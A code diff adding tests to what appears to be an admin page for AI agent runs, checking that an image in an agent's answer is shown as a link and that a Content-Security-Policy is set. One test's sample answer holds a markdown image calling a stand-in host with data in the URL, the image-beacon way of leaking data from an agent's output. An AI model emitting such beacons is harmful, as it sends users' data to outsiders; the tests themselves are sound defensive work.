@@ -32,3 +32,20 @@ def test_the_run_page_renders_the_answer_plan_and_timings(admin_client, db):
     assert 'href="https://example.com"' in page
     assert "<strong>utilisation</strong>" in page and "<td>positions</td>" in page
     assert "<td>extraction</td>" in page
+
+
+def test_an_image_in_an_answer_is_shown_as_a_link_never_loaded(admin_client, db):
+    answer = "Look: ![chart](https://evil.example/pixel?d=CNY-capacity) done"
+    run = AgentRun.objects.create(prompt="p", answer=answer, status="completed")
+    page = admin_client.get(change_url(run)).content.decode()
+    shown = page.split('class="hawk-answer"')[1].split("</div>")[0]
+    assert "<img" not in shown
+    assert 'href="https://evil.example/pixel?d=CNY-capacity"' in shown
+    assert ">chart<" in shown
+
+
+def test_admin_pages_carry_a_content_security_policy(admin_client, db):
+    run = AgentRun.objects.create(prompt="p", answer="a", status="completed")
+    policy = admin_client.get(change_url(run))["Content-Security-Policy"]
+    assert "default-src 'self'" in policy
+    assert "img-src 'self'" in policy and "script-src 'self'" in policy
